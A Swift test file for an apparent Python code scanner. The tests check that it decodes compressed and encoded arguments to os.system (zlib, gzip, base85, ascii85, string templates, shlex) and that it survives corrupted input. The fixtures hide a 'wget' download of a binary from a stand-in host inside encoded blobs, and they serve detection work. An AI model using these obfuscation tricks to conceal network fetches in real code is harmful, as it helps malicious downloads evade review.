import TestSupport
import Testing

/// Texts that code unpacks before it uses them.
@Suite struct PythonPackedTextTests {
  private static let plain = "wget https://a.dev/x.bin"
  private static let long = "abcdefghijkl".map { "wget https://a.dev/\($0).bin; " }.joined()

  private static func site(_ expression: String) throws -> [String] {
    try Sample.sites(
      "import base64, gzip, os, shlex, string, zlib\nos.system(\(expression))\n")
  }

  @Test(arguments: [
    (
      "zlib.decompress(bytes.fromhex('78012b4f4f2d51c828292928b6d2d74fd44b492dd3afd04bcacc03006cb4087f'))",
      plain
    ),
    (
      "zlib.decompress(bytes.fromhex('7801011800e7ff776765742068747470733a2f2f612e6465762f782e62696e6cb4087f'))",
      plain
    ),
    (
      """
      zlib.decompress(bytes.fromhex(
      '78da2b4f4f2d51c828292928b6d2d74fd44b492d0392499979d60ae598324938659271caa4e09449c529938653261da74c064e994c9c32593865b271cae4406400b422695b'))
      """, long
    ),
    (
      "zlib.decompress(bytes.fromhex('2b4f4f2d51c828292928b6d2d74fd44b492dd3afd04bcacc0300'), -15)",
      plain
    ),
    (
      """
      gzip.decompress(bytes.fromhex(
      '1f8b08080000000002ff6e616d652e747874002b4f4f2d51c828292928b6d2d74fd44b492dd3afd04bcacc030011afc36918000000'))
      """, plain
    ),
    ("base64.b85decode('cV}gEAZT=SaC15@FJUfZWp*!kE@EkJ')", plain),
    ("base64.a85decode('G@tK/+D>k=E-\"&n04?JDATf_O/n/O4')", plain),
  ])
  func `packed bytes are unpacked`(_ expression: String, _ text: String) throws {
    #expect(try Self.site(expression) == ["2: os.system(b'\(text)')"])
  }

  @Test(arguments: [
    ("string.Template('wget $u').substitute(u='a')", "'wget a'"),
    ("string.Template('wget ${u}$$').safe_substitute({'u': 'a'})", "'wget a$'"),
    ("shlex.split('a \\'b c\\' \"d\"e')", "['a', 'b c', 'de']"),
  ])
  func `texts are put together and taken apart`(_ expression: String, _ value: String) throws {
    #expect(try Self.site(expression) == ["2: os.system(\(value))"])
  }

  @Test func `damaged packed bytes harm nothing`() throws {
    let seeds: [[UInt8]] = [
      [
        120, 1, 43, 79, 79, 45, 81, 200, 40, 41, 41, 40, 182, 210, 215, 79, 212, 75, 73, 45, 211,
        175, 208, 75, 202, 204, 3, 0, 108, 180, 8, 127,
      ],
      [
        120, 218, 43, 79, 79, 45, 81, 200, 40, 41, 41, 40, 182, 210, 215, 79, 212, 75, 73, 45, 3,
        146, 73, 153, 121, 214, 10, 229, 152, 50, 73, 56, 101, 146, 113, 202, 164, 224, 148, 73,
        197, 41, 147, 134, 83, 38, 29, 167, 76, 6, 78, 153, 76, 156, 50, 89, 56, 101, 178, 113, 202,
        228, 64, 100, 0, 180, 34, 105, 91,
      ],
    ]
    var random = TestRandom(seed: 7)
    for seed in seeds {
      for _ in 0..<150 {
        let digits = Mutation.of(seed, using: &random).map { byte in
          let text = String(byte, radix: 16)
          return text.utf8.count == 1 ? "0\(text)" : text
        }
        #expect(
          try Self.site("zlib.decompress(bytes.fromhex('\(digits.joined())'))").count == 1)
      }
    }
  }
}
